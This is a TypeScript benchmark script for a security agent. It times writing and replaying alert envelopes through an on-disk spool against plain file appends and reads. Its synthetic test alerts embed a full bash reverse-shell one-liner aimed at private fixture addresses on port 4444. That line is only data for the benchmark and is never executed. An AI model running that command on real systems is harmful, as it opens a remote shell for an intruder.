/**
 * Spool benchmark: how fast a push output's on-disk spool takes envelopes
 * and gives them back, against plain appends and reads of the same bytes
 * measured in the same run (see README.md). Writes bench/spool/RESULTS.md.
 *
 *   node --import tsx bench/spool/run.ts [--records 20000] [--batch 100] [--rounds 5] [--no-write]
 */
import { appendFile, mkdtemp, open, readFile, rm } from 'node:fs/promises';
import { cpus, tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { writeFileSync } from 'node:fs';
import type { Envelope } from '../../agent/delivery/envelope.js';
import { envelopeJson, parseEnvelopeJson } from '../../agent/delivery/formats/envelope-json.js';
import { createSpool, type SpoolRecord } from '../../agent/delivery/spool.js';

const here = dirname(fileURLToPath(import.meta.url));
const args = process.argv.slice(2);
const opt = (name: string, dflt: number): number => (args.includes(name) ? Number(args[args.indexOf(name) + 1]) || dflt : dflt);
const records = opt('--records', 20_000);
const batch = opt('--batch', 100);
const rounds = opt('--rounds', 5);
const write = !args.includes('--no-write');

/** A Reverse Shell alert as the agent emits it, with a command line that varies. */
function envelope(i: number): Envelope {
  const cmdline = `bash -c bash -i >& /dev/tcp/10.0.${i % 250}.${i % 200}/4444 0>&1 # ${'x'.repeat(i % 120)}`;
  return {
    node: 'node-1.example.internal',
    bootId: '4f2c1a9e-1111-4222-8333-944455556666',
    sequence: i + 1,
    eventId: `00000000-0000-4000-8000-${String(i).padStart(12, '0')}`,
    timeNs: 1_767_225_600_000_000_000n + BigInt(i) * 1_000_000n,
    kind: 'alert',
    alert: {
      time: '2026-01-01T00:00:00.123456789Z',
      rule: 'Reverse Shell',
      priority: 'Critical',
      output: `00:00:00.123456789: Critical Reverse shell: bash output goes to 10.0.0.1:4444 (k8s.ns=shop k8s.pod=web-7d9f container=app cmdline=${cmdline})`,
      output_fields: {
        'proc.name': 'bash',
        'proc.pid': 4000 + i,
        'proc.cmdline': cmdline,
        'proc.pname': 'sh',
        'fd.rip': '10.0.0.1',
        'fd.rport': 4444,
        'k8s.ns.name': 'shop',
        'k8s.pod.name': 'web-7d9f',
        'k8s.container.name': 'app',
        'container.id': '0123456789ab',
        'user.name': 'root',
      },
      hostname: 'node-1.example.internal',
      source: 'syscall',
      tags: ['network', 'process', 'mitre_execution', 'T1059'],
    },
  };
}

const envelopes = Array.from({ length: records }, (_, i) => envelope(i));
const lines = envelopes.map((e) => `${envelopeJson(e)}\n`);
const payloadBytes = lines.reduce((n, l) => n + Buffer.byteLength(l) - 1, 0);

interface Rate {
  readonly recordsPerS: number;
  readonly mbPerS: number;
}
const rate = (ms: number): Rate => ({ recordsPerS: records / (ms / 1000), mbPerS: payloadBytes / 1e6 / (ms / 1000) });

async function timed(fn: () => Promise<void>): Promise<number> {
  const t0 = process.hrtime.bigint();
  await fn();
  return Number(process.hrtime.bigint() - t0) / 1e6;
}

async function round(dir: string): Promise<Record<string, number>> {
  const spoolDir = join(dir, 'spool');
  const out: Record<string, number> = {};

  // Write: the spool (serialise + frame + crc + append), batches as a push output's flush makes them under load.
  const spool = createSpool({ dir: spoolDir, maxBytes: 1 << 30, segmentBytes: 4 << 20, onEvict: () => undefined });
  await spool.open();
  out.spoolWrite = await timed(async () => {
    for (let i = 0; i < records; i += batch) {
      const chunk: SpoolRecord[] = envelopes.slice(i, i + batch).map((e) => ({ first: e.sequence, last: e.sequence, count: 1, gap: false, payload: Buffer.from(envelopeJson(e)) }));
      await spool.append(chunk);
    }
  });
  await spool.close();

  // Baselines: the same JSON lines, serialised the same way, appended with appendFile (open+write+close a batch) and through one open handle.
  const plain = join(dir, 'plain.jsonl');
  out.appendFile = await timed(async () => {
    for (let i = 0; i < records; i += batch)
      await appendFile(
        plain,
        envelopes
          .slice(i, i + batch)
          .map((e) => `${envelopeJson(e)}\n`)
          .join(''),
      );
  });
  const handlePath = join(dir, 'handle.jsonl');
  const h = await open(handlePath, 'a');
  out.handleWrite = await timed(async () => {
    for (let i = 0; i < records; i += batch)
      await h.write(
        envelopes
          .slice(i, i + batch)
          .map((e) => `${envelopeJson(e)}\n`)
          .join(''),
      );
  });
  await h.close();

  // Replay: a restarted agent opens the spool (crc check of every record), then reads, parses and acknowledges it in output-sized batches.
  let replayed = 0;
  out.spoolReplay = await timed(async () => {
    const again = createSpool({ dir: spoolDir, maxBytes: 1 << 30, segmentBytes: 4 << 20, onEvict: () => undefined });
    await again.open();
    for (;;) {
      const got = await again.peek(500);
      if (got.length === 0) break;
      for (const r of got) parseEnvelopeJson(r.payload.toString('utf8'));
      replayed += got.length;
      await again.ack(got[got.length - 1]!.ticket);
    }
    await again.close();
  });
  if (replayed !== records) throw new Error(`replayed ${replayed} of ${records}`);

  // Baseline: read the JSON lines file whole, split it, parse every line.
  out.readFile = await timed(async () => {
    const text = await readFile(plain, 'utf8');
    let n = 0;
    for (const line of text.split('\n')) {
      if (!line) continue;
      parseEnvelopeJson(line);
      n++;
    }
    if (n !== records) throw new Error(`read ${n} of ${records}`);
  });
  return out;
}

const median = (xs: number[]) => [...xs].sort((a, b) => a - b)[Math.floor(xs.length / 2)]!;

const results: Record<string, number[]> = {};
for (let r = 0; r < rounds + 1; r++) {
  const dir = await mkdtemp(join(tmpdir(), 'vigil-bench-spool-'));
  try {
    const out = await round(dir);
    if (r === 0) continue; // warm-up
    for (const [k, v] of Object.entries(out)) {
      const list = results[k] ?? [];
      results[k] = list;
      list.push(v);
    }
  } finally {
    await rm(dir, { recursive: true, force: true });
  }
}

const med = Object.fromEntries(Object.entries(results).map(([k, v]) => [k, median(v)]));
const row = (name: string, key: string, base: string) => {
  const r = rate(med[key]!);
  return `| ${name} | ${Math.round(r.recordsPerS).toLocaleString('en-US')} | ${r.mbPerS.toFixed(1)} | ${(med[base]! / med[key]!).toFixed(2)}x |`;
};
const avg = Math.round(payloadBytes / records);
const text = `# Spool benchmark

\`node --import tsx bench/spool/run.ts\` — ${new Date().toISOString().slice(0, 10)}, Node ${process.version}, ${cpus()[0]?.model.trim() ?? 'unknown CPU'}, ${tmpdir()} (the spool's default lives on the node's disk the same way). ${records.toLocaleString('en-US')} Reverse Shell alert envelopes of ${avg} bytes of JSON on average (${(payloadBytes / 1e6).toFixed(1)} MB), written in batches of ${batch}; median of ${rounds} rounds after one warm-up round, wall time. The machine is shared and noisy: compare each row with its baseline, measured in the same rounds.

| operation | records/s | MB/s (JSON payload) | vs baseline |
| --- | ---: | ---: | ---: |
${row('spool write (serialise, frame, crc32, append)', 'spoolWrite', 'appendFile')}
${row('baseline: appendFile of the same JSON lines', 'appendFile', 'appendFile')}
${row('ceiling: write() on one open handle, same lines', 'handleWrite', 'appendFile')}
${row('spool replay (open + crc check, peek 500, parse, ack)', 'spoolReplay', 'readFile')}
${row('baseline: readFile + split + JSON.parse of the same lines', 'readFile', 'readFile')}

- "vs baseline" is the baseline's time over the row's time (above 1.00x: faster than the baseline).
- Writes go to the page cache (no fsync per record; see docs/delivery-outputs.md): this measures the CPU cost of the spool, which is what the agent pays per alert.
- Replay includes the crc check of every record at open, a cursor file rewrite (write + rename) per acknowledged batch of 500, and deleting segments once delivered.
`;
console.log(text);
if (write) writeFileSync(join(here, 'RESULTS.md'), text);
